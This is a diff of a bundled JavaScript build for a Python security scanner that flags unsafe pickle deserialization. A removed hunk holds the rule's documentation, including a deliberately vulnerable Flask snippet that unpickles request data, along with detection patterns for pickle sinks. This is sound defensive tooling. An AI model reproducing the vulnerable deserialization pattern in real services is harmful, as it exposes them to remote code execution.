+    factory.default = factory;
+    module2.exports.isPathValid = isPathValid;
+    define2(module2.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
   }
 });
 
@@ -2973,10 +2973,10 @@ var require_light = __commonJS({
         _randomIndex() {
           return Math.random().toString(36).slice(2);
         }
-        doDrop({ error, message: message2 = "This job has been dropped by Bottleneck" } = {}) {
+        doDrop({ error, message: message15 = "This job has been dropped by Bottleneck" } = {}) {
           if (this._states.remove(this.options.id)) {
             if (this.rejectOnDrop) {
-              this._reject(error != null ? error : new BottleneckError$1(message2));
+              this._reject(error != null ? error : new BottleneckError$1(message15));
             }
             this.Events.trigger("dropped", { args: this.args, options: this.options, task: this.task, promise: this.promise });
             return true;
@@ -3009,7 +3009,7 @@ var require_light = __commonJS({
           }
           return this.Events.trigger("scheduled", { args: this.args, options: this.options });
         }
-        async doExecute(chained, clearGlobalState, run2, free) {
+        async doExecute(chained, clearGlobalState, run3, free) {
           var error, eventInfo, passed;
           if (this.retryCount === 0) {
             this._assertStatus("RUNNING");
@@ -3029,10 +3029,10 @@ var require_light = __commonJS({
             }
           } catch (error1) {
             error = error1;
-            return this._onFailure(error, eventInfo, clearGlobalState, run2, free);
+            return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
           }
         }
-        doExpire(clearGlobalState, run2, free) {
+        doExpire(clearGlobalState, run3, free) {
           var error, eventInfo;
           if (this._states.jobStatus(this.options.id === "RUNNING")) {
             this._states.next(this.options.id);
@@ -3040,9 +3040,9 @@ var require_light = __commonJS({
           this._assertStatus("EXECUTING");
           eventInfo = { args: this.args, options: this.options, retryCount: this.retryCount };
           error = new BottleneckError$1(`This job timed out after ${this.options.expiration} ms.`);
-          return this._onFailure(error, eventInfo, clearGlobalState, run2, free);
+          return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
         }
-        async _onFailure(error, eventInfo, clearGlobalState, run2, free) {
+        async _onFailure(error, eventInfo, clearGlobalState, run3, free) {
           var retry2, retryAfter;
           if (clearGlobalState()) {
             retry2 = await this.Events.trigger("failed", error, eventInfo);
@@ -3050,7 +3050,7 @@ var require_light = __commonJS({
               retryAfter = ~~retry2;
               this.Events.trigger("retry", `Retrying ${this.options.id} after ${retryAfter} ms`, eventInfo);
               this.retryCount++;
-              return run2(retryAfter);
+              return run3(retryAfter);
             } else {
               this.doDone(eventInfo);
               await free(this.options, eventInfo);
@@ -3112,9 +3112,9 @@ var require_light = __commonJS({
             return clearInterval(this.heartbeat);
           }
         }
-        async __publish__(message2) {
+        async __publish__(message15) {
           await this.yieldLoop();
-          return this.instance.Events.trigger("message", message2.toString());
+          return this.instance.Events.trigger("message", message15.toString());
         }
         async __disconnect__(flush) {
           await this.yieldLoop();
@@ -3122,8 +3122,8 @@ var require_light = __commonJS({
           return this.Promise.resolve();
         }
         yieldLoop(t = 0) {
-          return new this.Promise(function(resolve7, reject) {
-            return setTimeout(resolve7, t);
+          return new this.Promise(function(resolve9, reject) {
+            return setTimeout(resolve9, t);
           });
         }
         computePenalty() {
@@ -3334,15 +3334,15 @@ var require_light = __commonJS({
           return this._queue.length === 0;
         }
         async _tryToRun() {
-          var args2, cb, error, reject, resolve7, returned, task;
+          var args2, cb, error, reject, resolve9, returned, task;
           if (this._running < 1 && this._queue.length > 0) {
             this._running++;
-            ({ task, args: args2, resolve: resolve7, reject } = this._queue.shift());
+            ({ task, args: args2, resolve: resolve9, reject } = this._queue.shift());
             cb = await (async function() {
               try {
                 returned = await task(...args2);
                 return function() {
-                  return resolve7(returned);
+                  return resolve9(returned);
                 };
               } catch (error1) {
                 error = error1;
@@ -3357,13 +3357,13 @@ var require_light = __commonJS({
           }
         }
         schedule(task, ...args2) {
-          var promise, reject, resolve7;
-          resolve7 = reject = null;
+          var promise, reject, resolve9;
+          resolve9 = reject = null;
           promise = new this.Promise(function(_resolve, _reject) {
-            resolve7 = _resolve;
+            resolve9 = _resolve;
             return reject = _reject;
           });
-          this._queue.push({ task, args: args2, resolve: resolve7, reject });
+          this._queue.push({ task, args: args2, resolve: resolve9, reject });
           this._tryToRun();
           return promise;
         }
@@ -3562,7 +3562,7 @@ var require_light = __commonJS({
       var Batcher_1 = Batcher;
       var require$$4$1 = () => console.log("You must import the full version of Bottleneck in order to use this feature.");
       var require$$8 = getCjsExportFromNamespace(version$2);
-      var Bottleneck2, DEFAULT_PRIORITY$1, Events$4, Job$1, LocalDatastore$1, NUM_PRIORITIES$1, Queues$1, RedisDatastore$1, States$1, Sync$1, parser$5, splice = [].splice;
+      var Bottleneck2, DEFAULT_PRIORITY$1, Events$4, Job$1, LocalDatastore$1, NUM_PRIORITIES$1, Queues$1, RedisDatastore$1, States$1, Sync$1, parser$5, splice2 = [].splice;
       NUM_PRIORITIES$1 = 10;
       DEFAULT_PRIORITY$1 = 5;
       parser$5 = parser;
@@ -3575,10 +3575,10 @@ var require_light = __commonJS({
       Sync$1 = Sync_1;
       Bottleneck2 = (function() {
         class Bottleneck3 {
-          constructor(options = {}, ...invalid) {
+          constructor(options = {}, ...invalid2) {
             var storeInstanceOptions, storeOptions;
             this._addToQueue = this._addToQueue.bind(this);
-            this._validateOptions(options, invalid);
+            this._validateOptions(options, invalid2);
             parser$5.load(options, this.instanceDefaults, this);
             this._queues = new Queues$1(NUM_PRIORITIES$1);
             this._scheduled = {};
@@ -3608,8 +3608,8 @@ var require_light = __commonJS({
               return (ref = this._store.heartbeat) != null ? typeof ref.unref === "function" ? ref.unref() : void 0 : void 0;
             });
           }
-          _validateOptions(options, invalid) {
-            if (!(options != null && typeof options === "object" && invalid.length === 0)) {
+          _validateOptions(options, invalid2) {
+            if (!(options != null && typeof options === "object" && invalid2.length === 0)) {
               throw new Bottleneck3.prototype.BottleneckError("Bottleneck v2 takes a single object argument. Refer to https://github.com/SGrondin/bottleneck#upgrading-to-v2 if you're upgrading from Bottleneck v1.");
             }
           }
@@ -3625,8 +3625,8 @@ var require_light = __commonJS({
           channel_client() {
             return `b_${this.id}_${this._store.clientId}`;
           }
-          publish(message2) {
-            return this._store.__publish__(message2);
+          publish(message15) {
+            return this._store.__publish__(message15);
           }
           disconnect(flush = true) {
             return this._store.__disconnect__(flush);
@@ -3688,17 +3688,17 @@ var require_light = __commonJS({
             }
           }
           _run(index, job, wait) {
-            var clearGlobalState, free, run2;
+            var clearGlobalState, free, run3;
             job.doRun();
             clearGlobalState = this._clearGlobalState.bind(this, index);
-            run2 = this._run.bind(this, index, job);
+            run3 = this._run.bind(this, index, job);
             free = this._free.bind(this, index, job);
             return this._scheduled[index] = {
               timeout: setTimeout(() => {
-                return job.doExecute(this._limiter, clearGlobalState, run2, free);
+                return job.doExecute(this._limiter, clearGlobalState, run3, free);
               }, wait),
               expiration: job.options.expiration != null ? setTimeout(function() {
-                return job.doExpire(clearGlobalState, run2, free);
+                return job.doExpire(clearGlobalState, run3, free);
               }, wait + job.options.expiration) : void 0,
               job
             };
@@ -3749,9 +3749,9 @@ var require_light = __commonJS({
               return this.Events.trigger("error", e);
             });
           }
-          _dropAllQueued(message2) {
+          _dropAllQueued(message15) {
             return this._queues.shiftAll(function(job) {
-              return job.doDrop({ message: message2 });
+              return job.doDrop({ message: message15 });
             });
           }
           stop(options = {}) {
@@ -3764,14 +3764,14 @@ var require_light = __commonJS({
                 counts = this._states.counts;
                 return counts[0] + counts[1] + counts[2] + counts[3] === at;
               };
-              return new this.Promise((resolve7, reject) => {
+              return new this.Promise((resolve9, reject) => {
                 if (finished()) {
-                  return resolve7();
+                  return resolve9();
                 } else {
                   return this.on("done", () => {
                     if (finished()) {
                       this.removeAllListeners("done");
-                      return resolve7();
+                      return resolve9();
                     }
                   });
                 }
@@ -3857,16 +3857,16 @@ var require_light = __commonJS({
           submit(...args2) {
             var cb, fn, job, options, ref, ref1, task;
             if (typeof args2[0] === "function") {
-              ref = args2, [fn, ...args2] = ref, [cb] = splice.call(args2, -1);
+              ref = args2, [fn, ...args2] = ref, [cb] = splice2.call(args2, -1);
               options = parser$5.load({}, this.jobDefaults);
             } else {
-              ref1 = args2, [options, fn, ...args2] = ref1, [cb] = splice.call(args2, -1);
+              ref1 = args2, [options, fn, ...args2] = ref1, [cb] = splice2.call(args2, -1);
               options = parser$5.load(options, this.jobDefaults);
             }
             task = (...args3) => {
-              return new this.Promise(function(resolve7, reject) {
+              return new this.Promise(function(resolve9, reject) {
                 return fn(...args3, function(...args4) {
-                  return (args4[0] != null ? reject : resolve7)(args4);
+                  return (args4[0] != null ? reject : resolve9)(args4);
                 });
               });
             };
@@ -3991,7 +3991,7 @@ var require_light = __commonJS({
 // src/ci/action.ts
 import { randomUUID } from "node:crypto";
 import { appendFileSync } from "node:fs";
-import { resolve as resolve6 } from "node:path";
+import { resolve as resolve8 } from "node:path";
 
 // src/cli/command.ts
 var CliUsageError = class extends Error {
@@ -4018,8 +4018,8 @@ async function writeOutput(text, file, io) {
 
 // src/project/scan.ts
 import { availableParallelism } from "node:os";
-import { readFile as readFile3 } from "node:fs/promises";
-import { resolve as resolve3 } from "node:path";
+import { readFile as readFile3, stat as stat2 } from "node:fs/promises";
+import { dirname as dirname3, join as join5, resolve as resolve4 } from "node:path";
 
 // src/core/order.ts
 function compareFindings(a, b) {
@@ -4030,162 +4030,6 @@ function compareErrors(a, b) {
 }
 function cmp(a, b) {
   return a < b ? -1 : a > b ? 1 : 0;
-}
-
-// src/rules/rule.ts
-function defineRule(rule) {
-  return rule;
-}
-function code(s) {
-  return "`" + s + "`";
-}
-
-// src/rules/python/shared-docs.ts
-var DESERIALIZATION_COMPLIANCE = [
-  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
-  { framework: "OWASP Top 10", control: "A08:2021 Software and Data Integrity Failures" },
-  { framework: "NIST SP 800-53", control: "SI-10 Information Input Validation" },
-  { framework: "PCI DSS v4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
-];
-var DESERIALIZATION_REFERENCES = [
-  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
-  { title: "OWASP Top 10 A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
-  { title: "OWASP Deserialization Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html" },
-  { title: "Python documentation: pickle (security warning)", url: "https://docs.python.org/3/library/pickle.html" },
-  { title: "Bandit B301: pickle", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" }
-];
-
-// src/rules/python/PYTHON-LANG-SEC-040.ts
-var PICKLE_SINKS = ["pickle.loads", "pickle.load", "pickle.Unpickler", "pickle._loads", "pickle._load", "pickle._Unpickler"];
-function message(m) {
-  const spelled = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
-  switch (m.via) {
-    case "subclass":
-      return `${code(m.subclass.name)} subclasses ${m.target} and unpickles its input` + (m.subclass.overridesFindClass ? "; overriding find_class narrows what loads but does not make untrusted data safe: restricted unpicklers are routinely bypassed" : "") + ". Use a data-only format for untrusted input.";
-    case "reference":
-      return `${spelled} is passed as a callable: every value it is applied to is unpickled, which can run arbitrary code. Use a data-only format for untrusted input.`;
-    default:
-      return `${spelled} deserializes with pickle, which runs whatever code the bytes describe. Never unpickle data that could come from an untrusted source; use a data-only format such as JSON.`;
-  }
-}
-var PYTHON_LANG_SEC_040_default = defineRule({
-  id: "PYTHON-LANG-SEC-040",
-  name: "Pickle Deserialization of Untrusted Data",
-  language: "python",
-  severity: "high",
-  confidence: "high",
-  precision: "high",
-  cwe: ["CWE-502"],
-  owasp: ["A08:2021"],
-  compliance: DESERIALIZATION_COMPLIANCE,
-  tags: ["security", "deserialization", "pickle", "rce", "cwe-502"],
-  bundles: ["lang", "deserialization"],
-  banditIds: ["B301"],
-  similar: ["PYTHON-LANG-SEC-044", "PYTHON-LANG-SEC-045", "PYTHON-LANG-SEC-046", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-005"],
-  prefilter: ["pickle", "Pickle", "import_module", "__import__"],
-  sinks: [{ call: PICKLE_SINKS, subclasses: true, references: true, message }],
-  docs: {
-    summary: "Detects pickle deserialization (`pickle.loads`, `pickle.load`, `pickle.Unpickler`), which executes arbitrary code from its input.",
-    description: 'Python\'s `pickle` format is a small stack-based program, not a data format. Loading a pickle runs that program: it can import any module and call any function with any arguments (`os.system`, `subprocess.Popen`, `eval`, ...). This rule reports every call that unpickles: `pickle.loads`, `pickle.load`, `pickle.Unpickler(...)` and its subclasses, and the same functions reached through `cPickle`, `_pickle`, `pickle5`, `six.moves.cPickle`, import aliases, `from pickle import *`, rebinding (`loader = pickle.loads`), `importlib.import_module("pickle")`, `__import__("pickle")`, `getattr(pickle, "loads")` and `functools.partial`. It also reports `pickle.loads` passed uncalled as a callback (`map(pickle.loads, blobs)`).',
-    securityImplications: "Anyone who can influence the bytes that reach the unpickler can run code with the privileges of the process: read secrets and credentials, move laterally, install a backdoor, or tamper with data. Typical entry points are request bodies, cookies and session stores, message queues, caches (Redis, memcached), files uploaded by users, and model or data files downloaded from the internet. There is no safe subset of pickle and no way to sanitize a payload before loading it; restricting `find_class` in an `Unpickler` subclass reduces the attack surface but has been bypassed repeatedly (gadgets in allowed modules, `getattr` chains, nested pickles).",
-    howToFix: "Do not unpickle data that crosses a trust boundary. Serialize with a data-only format instead: `json`, `msgpack`, Protocol Buffers, or `safetensors` for tensors and model weights. If pickle must stay for data the process produced itself, authenticate it before loading (an HMAC with a server-side key, verified with `hmac.compare_digest`), keep it out of reach of users, and treat the key as a secret.",
-    fixHint: "Use a data-only format (json, msgpack, safetensors) or verify an HMAC before unpickling data you produced yourself.",
-    vulnerableExample: [
-      "import pickle",
-      "from flask import request",
-      "",
-      '@app.route("/session", methods=["POST"])',
-      "def restore_session():",
-      "    session = pickle.loads(request.data)  # attacker-controlled bytes run as code",
-      '    return session["user"]'
-    ].join("\n"),
-    safeExample: [
-      "import json",
-      "from flask import request",
-      "",
-      '@app.route("/session", methods=["POST"])',
-      "def restore_session():",
-      "    session = json.loads(request.data)  # data only: no code runs",
-      '    return session["user"]'
-    ].join("\n"),
-    detectionScope: 'Every call of `pickle.loads`, `pickle.load`, `pickle.Unpickler` (and the pure-Python `_loads`, `_load`, `_Unpickler`) resolved through the file\'s imports and bindings: aliases, `from pickle import ...`, star imports, `cPickle`/`_pickle`/`pickle5`/`six.moves.cPickle`, `try`/`except ImportError` fallbacks, rebinding, `importlib.import_module`/`__import__` with constant module names (also built by concatenation), `getattr(module, "loads")`, `sys.modules["pickle"]`, `functools.partial`, instantiation of classes in the same file that derive from `pickle.Unpickler` (with or without a `find_class` override), and sink functions passed as callbacks. Names shadowed by parameters, locals or attributes are not reported; strings and comments never match. `pickle.dumps`/`pickle.dump` are not findings. Not covered: calls through wrappers defined in other modules (add them as custom sinks in the configuration) and modules named by run-time strings. Every call is reported regardless of where its data comes from, because pickle has no safe input in practice; suppress a reviewed call with `# pathfinder: ignore[PYTHON-LANG-SEC-040]`.',
-    references: DESERIALIZATION_REFERENCES,
-    faq: [
-      {
-        question: "The data comes from our own cache or database. Is this a false positive?",
-        answer: "Only if no attacker can ever write to that store. Caches, queues and databases are frequent pivot points: an injection or SSRF elsewhere becomes code execution here. Prefer a data-only format; otherwise sign the payload with an HMAC and verify it before loading, then suppress the finding with a justification."
-      },
-      {
-        question: "We subclassed Unpickler and restricted find_class. Why is it still reported?",
-        answer: "A restricted unpickler is a denylist or allowlist over a Turing-complete format. Published bypasses abuse allowed globals (`getattr`, `operator`, `functools`, numpy and torch helpers) and nested pickles. Keep the restriction as defence in depth, but do not feed it untrusted data."
-      },
-      {
-        question: "Is `pickle.dumps` dangerous?",
-        answer: "No. Serializing runs no attacker-controlled code; only loading does. `dump`/`dumps` are never reported."
-      },
-      {
-        question: "Does this rule also cover joblib, torch.load, numpy.load or dill?",
-        answer: "Those libraries unpickle under the hood and have their own rules (see similar rules) so that each can check its own safe options, such as `weights_only=True` or `allow_pickle=False`."
-      }
-    ]
-  }
-});
-
-// src/rules/registry.ts
-var PYTHON_RULES = [PYTHON_LANG_SEC_040_default].sort((a, b) => a.id.localeCompare(b.id));
-function pythonBundles() {
-  const names = /* @__PURE__ */ new Set(["all"]);
-  for (const r of PYTHON_RULES) for (const b of r.bundles) names.add(b);
-  return [...names].sort();
-}
-function resolveRulesets(specs, extraRules = []) {
-  const all = [...PYTHON_RULES, ...extraRules];
-  if (!specs.length) return { ok: true, rules: all };
-  const chosen = /* @__PURE__ */ new Map();
-  for (const raw of specs) {
-    const spec = raw.trim();
-    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["python", spec];
-    if (lang.toLowerCase() !== "python") {
-      return { ok: false, error: `unknown ruleset language "${lang}" in "${spec}": only "python/..." rulesets exist` };
-    }
-    const byId = all.find((r) => r.id.toUpperCase() === name2.toUpperCase());
-    if (byId) {
-      chosen.set(byId.id, byId);
-      continue;
-    }
-    const bundle = name2.toLowerCase();
-    const members = bundle === "all" ? all : all.filter((r) => r.bundles.includes(bundle));
-    if (!members.length) {
-      const candidates = [...all.map((r) => `python/${r.id}`), ...pythonBundles().map((b) => `python/${b}`)];
-      const suggestion = closest(`python/${name2}`, candidates);
-      return {
-        ok: false,
-        error: `unknown ruleset "${spec}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`
-      };
-    }
-    for (const r of members) chosen.set(r.id, r);
-  }
-  return { ok: true, rules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id)) };
-}
-function closest(input, candidates) {
-  let best;
-  let bestDistance = Infinity;
-  for (const c of candidates) {
-    const d = editDistance(input.toLowerCase(), c.toLowerCase());
-    if (d < bestDistance) [best, bestDistance] = [c, d];
-  }
-  return best !== void 0 && bestDistance <= Math.max(3, Math.floor(input.length / 3)) ? best : void 0;
-}
-function editDistance(a, b) {
-  let prev = Array.from({ length: b.length + 1 }, (_, i2) => i2);
-  for (let i2 = 1; i2 <= a.length; i2++) {
-    const cur = [i2];
-    for (let j = 1; j <= b.length; j++) {
-      cur[j] = Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i2 - 1] === b[j - 1] ? 0 : 1));
-    }
-    prev = cur;
-  }
-  return prev[b.length];
 }
 
 // src/core/hash.ts
@@ -4211,8 +4055,8 @@ function parseSuppression(comment) {
   if (n) return { kind: "nosec", ids: splitIds(n[1]), text: comment.trim() };
   return void 0;
 }
-function suppresses(directive, ruleId, banditIds) {
-  const hit = directive.ids.length === 0 || directive.ids.some((id) => id.toUpperCase() === ruleId.toUpperCase() || banditIds.includes(id.toUpperCase()));
+function suppresses(directive, ruleId2, banditIds) {
+  const hit = directive.ids.length === 0 || directive.ids.some((id) => id.toUpperCase() === ruleId2.toUpperCase() || banditIds.includes(id.toUpperCase()));
   return hit ? { kind: directive.kind, justification: directive.text } : void 0;
 }
 function splitIds(list) {
@@ -4221,44 +4065,71 @@ function splitIds(list) {
 
 // src/languages/python/syntax.ts
 function copyTree(tree, source) {
+  const language = tree.language;
+  const typeNames = language.types;
+  const fieldNames = language.fields;
+  const named = /* @__PURE__ */ new Map();
+  const isNamed = (typeId) => {
+    let v = named.get(typeId);
+    if (v === void 0) named.set(typeId, v = typeId === ERROR_TYPE_ID || language.nodeTypeIsNamed(typeId));
+    return v;
+  };
+  const lines = new LineIndex(source);
+  const mayHaveErrors = tree.rootNode.hasError;
   const cursor = tree.walk();
   const comments = [];
   const problems = [];
-  const root = nodeAtCursor(cursor, null);
+  const makeNode = (typeId, fieldId, start2, end, missing, parent) => {
+    const [startRow, startCol] = lines.position(start2);
+    const [endRow, endCol] = lines.position(end);
+    return {
+      type: typeNames[typeId] ?? "ERROR",
+      field: fieldId ? fieldNames[fieldId] ?? null : null,
+      start: start2,
+      end,
+      startRow,
+      startCol,
+      endRow,
+      endCol,
+      parent,
+      children: [],
+      missing
+    };
+  };
+  const root = makeNode(cursor.nodeTypeId, 0, cursor.startIndex, cursor.endIndex, false, null);
   const parents = [root];
   const depthOfParent = [0];
   let depth = 0;
   let maxDepth = 0;
+  let skipChildren = false;
   try {
     for (; ; ) {
-      if (cursor.gotoFirstChild()) {
+      if (!skipChildren && cursor.gotoFirstChild()) {
         depth++;
       } else {
         while (!cursor.gotoNextSibling()) {
           if (!cursor.gotoParent()) return { source, root, comments, problems, maxDepth };
           depth--;
-          while (depthOfParent[depthOfParent.length - 1] >= depth && parents.length > 1) {
-            parents.pop();
-            depthOfParent.pop();
-          }
         }
       }
-      while (depthOfParent[depthOfParent.length - 1] >= depth && parents.length > 1) {
+      while (depthOfParent[depthOfParent.length - 1] >= depth) {
         parents.pop();
         depthOfParent.pop();
       }
       if (depth > maxDepth) maxDepth = depth;
-      const type = cursor.nodeType;
-      const missing = cursor.nodeIsMissing;
-      if (type === "ERROR" || missing) {
-        const p = cursor.startPosition;
-        problems.push({ row: p.row, col: p.column, missing });
+      const typeId = cursor.nodeTypeId;
+      const missing = mayHaveErrors && cursor.nodeIsMissing;
+      if (mayHaveErrors && (typeId === ERROR_TYPE_ID || missing)) {
+        const [row, col] = lines.position(cursor.startIndex);
+        problems.push({ row, col, missing });
       }
-      if (!cursor.nodeIsNamed) continue;
+      skipChildren = false;
+      if (!isNamed(typeId)) continue;
       const parent = parents[parents.length - 1];
-      const node = nodeAtCursor(cursor, parent);
+      const node = makeNode(typeId, cursor.currentFieldId, cursor.startIndex, cursor.endIndex, missing, parent);
+      if (node.type === "string" && !isFormatString(source, node.start)) skipChildren = true;
       parent.children.push(node);
-      if (type === "comment") comments.push(node);
+      if (node.type === "comment") comments.push(node);
       parents.push(node);
       depthOfParent.push(depth);
     }
@@ -4266,23 +4137,38 @@ function copyTree(tree, source) {
     cursor.delete();
   }
 }
-function nodeAtCursor(cursor, parent) {
-  const s = cursor.startPosition;
-  const e = cursor.endPosition;
-  return {
-    type: cursor.nodeType,
-    field: cursor.currentFieldName,
-    start: cursor.startIndex,
-    end: cursor.endIndex,
-    startRow: s.row,
-    startCol: s.column,
-    endRow: e.row,
-    endCol: e.column,
-    parent,
-    children: [],
-    missing: cursor.nodeIsMissing
-  };
+var ERROR_TYPE_ID = 65535;
+function isFormatString(source, start2) {
+  for (let i2 = start2; i2 < start2 + 3; i2++) {
+    const c = source.charCodeAt(i2);
+    if (c === 102 || c === 70) return true;
+    if (c === 34 || c === 39) return false;
+  }
+  return false;
 }
+var LineIndex = class {
+  starts = [0];
+  lastLine = 0;
+  constructor(source) {
+    for (let i2 = source.indexOf("\n"); i2 >= 0; i2 = source.indexOf("\n", i2 + 1)) this.starts.push(i2 + 1);
+  }
+  position(offset) {
+    const starts = this.starts;
+    let line = this.lastLine;
+    if (!(starts[line] <= offset && (line + 1 >= starts.length || offset < starts[line + 1]))) {
+      let lo = 0;
+      let hi = starts.length - 1;
+      while (lo < hi) {
+        const mid = lo + hi + 1 >> 1;
+        if (starts[mid] <= offset) lo = mid;
+        else hi = mid - 1;
+      }
+      line = lo;
+    }
+    this.lastLine = line;
+    return [line, offset - starts[line]];
+  }
+};
 function childByField(node, field) {
   for (const c of node.children) if (c.field === field) return c;
   return void 0;
@@ -4447,11 +4333,38 @@ var ALIASES = [
   ["dill.dill", "dill"],
   ["cloudpickle.cloudpickle", "cloudpickle"],
   ["cloudpickle.cloudpickle_fast", "cloudpickle"],
+  // Vendored copies of cloudpickle.
+  ["ray.cloudpickle", "cloudpickle"],
+  ["pyspark.cloudpickle", "cloudpickle"],
+  ["joblib.externals.cloudpickle", "cloudpickle"],
+  ["srsly.cloudpickle", "cloudpickle"],
+  ["joblib.numpy_pickle.load", "joblib.load"],
   ["jsonpickle.unpickler.decode", "jsonpickle.decode"],
+  ["jsonpickle.unpickler.Unpickler", "jsonpickle.Unpickler"],
   ["torch.serialization.load", "torch.load"],
+  ["torch.utils.model_zoo.load_url", "torch.hub.load_state_dict_from_url"],
+  ["torch.package.package_importer", "torch.package"],
+  ["torch.distributed.distributed_c10d", "torch.distributed"],
+  // Keras 3 is also reached as tf.keras / tf_keras; its public functions live in several modules.
+  ["tensorflow.keras", "keras"],
+  ["tensorflow.python.keras", "keras"],
+  ["tf_keras", "keras"],
+  ["keras.src.saving.saving_api", "keras.saving"],
+  ["keras.saving.saving_api", "keras.saving"],
+  ["keras.src.saving.serialization_lib", "keras.saving"],
   ["numpy.lib.npyio.load", "numpy.load"],
   ["pandas.io.pickle.read_pickle", "pandas.read_pickle"],
-  ["multiprocessing.dummy.connection", "multiprocessing.connection"]
+  ["modin.pandas.read_pickle", "pandas.read_pickle"],
+  ["pandas.io.pytables.read_hdf", "pandas.read_hdf"],
+  ["pandas.io.pytables.HDFStore", "pandas.HDFStore"],
+  // PyYAML re-exports its loaders and functions at the package level.
+  ["yaml.loader", "yaml"],
+  ["yaml.cyaml", "yaml"],
+  ["yaml.__init__", "yaml"],
+  ["ruamel_yaml", "ruamel.yaml"],
+  ["ruamel.yaml.main", "ruamel.yaml"],
+  ["ruamel.yaml.loader", "ruamel.yaml"],
+  ["ruamel.yaml.cyaml", "ruamel.yaml"]
 ];
 var MODULE_ALIASES = [...ALIASES].sort((a, b) => b[0].length - a[0].length);
 function canonicalName(qualifiedName) {
@@ -4462,6 +4375,62 @@ function canonicalName(qualifiedName) {
     }
   }
   return qualifiedName;
+}
+
+// src/languages/python/semantic/string-literal.ts
+var SIMPLE_ESCAPES = {
+  "\n": "",
+  "\\": "\\",
+  "'": "'",
+  '"': '"',
+  a: "\x07",
+  b: "\b",
+  f: "\f",
+  n: "\n",
+  r: "\r",
+  t: "	",
+  v: "\v"
+};
+function decodeStringLiteral(text) {
+  const m = /^([rRbBuUfF]{0,2})('''|"""|'|")/.exec(text);
+  if (!m) return void 0;
+  const prefix = m[1].toLowerCase();
+  const quote = m[2];
+  if (text.length < m[0].length + quote.length || !text.endsWith(quote)) return void 0;
+  const body2 = text.slice(m[0].length, text.length - quote.length);
+  if (prefix.includes("f") && /\{(?!\{)/.test(body2.replace(/\{\{/g, ""))) return void 0;
+  const literal = prefix.includes("f") ? body2.replace(/\{\{/g, "{").replace(/\}\}/g, "}") : body2;
+  if (prefix.includes("r")) return literal;
+  let out2 = "";
+  for (let i2 = 0; i2 < literal.length; i2++) {
+    const c = literal[i2];
+    if (c !== "\\" || i2 + 1 >= literal.length) {
+      out2 += c;
+      continue;
+    }
+    const next = literal[i2 + 1];
+    if (next in SIMPLE_ESCAPES) {
+      out2 += SIMPLE_ESCAPES[next];
+      i2++;
+    } else if (next === "\r") {
+      i2 += literal[i2 + 2] === "\n" ? 2 : 1;
+    } else if (/[0-7]/.test(next)) {
+      const oct = /^[0-7]{1,3}/.exec(literal.slice(i2 + 1))[0];
+      out2 += String.fromCharCode(parseInt(oct, 8));
+      i2 += oct.length;
+    } else if (next === "x" || !prefix.includes("b") && (next === "u" || next === "U")) {
+      const len = next === "x" ? 2 : next === "u" ? 4 : 8;
+      const hex = literal.slice(i2 + 2, i2 + 2 + len);
+      if (!new RegExp(`^[0-9a-fA-F]{${len}}$`).test(hex)) return void 0;
+      out2 += String.fromCodePoint(parseInt(hex, 16));
+      i2 += 1 + len;
+    } else if (next === "N" && !prefix.includes("b")) {
+      return void 0;
+    } else {
+      out2 += c;
+    }
+  }
+  return out2;
 }
 
 // src/languages/python/semantic/scopes.ts
@@ -4508,7 +4477,7 @@ function buildScopes(tree, moduleName) {
           for (const c of t.children) work.push({ t: c, v: void 0 });
           break;
         case "as_pattern_target":
-          for (const c of t.children) work.push({ t: c, v: void 0 });
+          for (const c of t.children) work.push({ t: c, v });
           break;
         default:
           stack.push({ node: t, scope });
@@ -4914,14 +4883,7 @@ var SemanticModel = class {
     return out2;
   }
   stringLiteral(node) {
-    if (node.type !== "string") return void 0;
-    let out2 = "";
-    for (const c of node.children) {
-      if (c.type === "interpolation") return void 0;
-      if (c.type === "string_content") out2 += this.text(c);
-      else if (c.type === "escape_sequence") out2 += unescape(this.text(c));
-    }
-    return out2;
+    return node.type === "string" ? decodeStringLiteral(this.text(node)) : void 0;
   }
 };
 function unwrapParentheses(node) {
@@ -4934,13 +4896,6 @@ function valueOf(keywordArgument) {
 }
 function isEmptyLiteral(node) {
   return (node.type === "list" || node.type === "tuple") && node.children.length === 0;
-}
-function unescape(seq) {
-  const simple = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', "0": "\0" };
-  if (seq.length === 2 && seq[1] in simple) return simple[seq[1]];
-  const hex = /^\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|U([0-9a-fA-F]{8}))$/.exec(seq);
-  if (hex) return String.fromCodePoint(parseInt(hex[1] ?? hex[2] ?? hex[3], 16));
-  return seq;
 }
 function reachingBindings(bindings, use, scope) {
   const preceding = bindings.filter((b) => b.position <= use.start).sort((a, b) => a.position - b.position);
@@ -4963,7 +4918,11 @@ function isUnconditional(site, use, scopeNode) {
 var MAX_SNIPPET_LINES = 5;
 function mayMatch(source, rules) {
   for (const rule of rules) for (const token of rule.prefilter) if (source.includes(token)) return true;
-  return false;
+  return hasComputedDynamicImport(source);
+}
+var COMPUTED_DYNAMIC_IMPORT = /(?:__import__|import_module)\s*\(\s*(?![rRuU]?(?:'[\w.]*'|"[\w.]*")\s*[,)])/;
+function hasComputedDynamicImport(source) {
+  return (source.includes("__import__") || source.includes("import_module")) && COMPUTED_DYNAMIC_IMPORT.test(source);
 }
 var SinkIndex = class {
   constructor(rules) {
@@ -5144,6 +5103,1860 @@ function lineSlice(source, fromRow, toRow) {
     end = nl < 0 ? source.length : nl + 1;
   }
   return source.slice(start2, end).replace(/\r?\n$/, "").replace(/\r/g, "");
+}
+
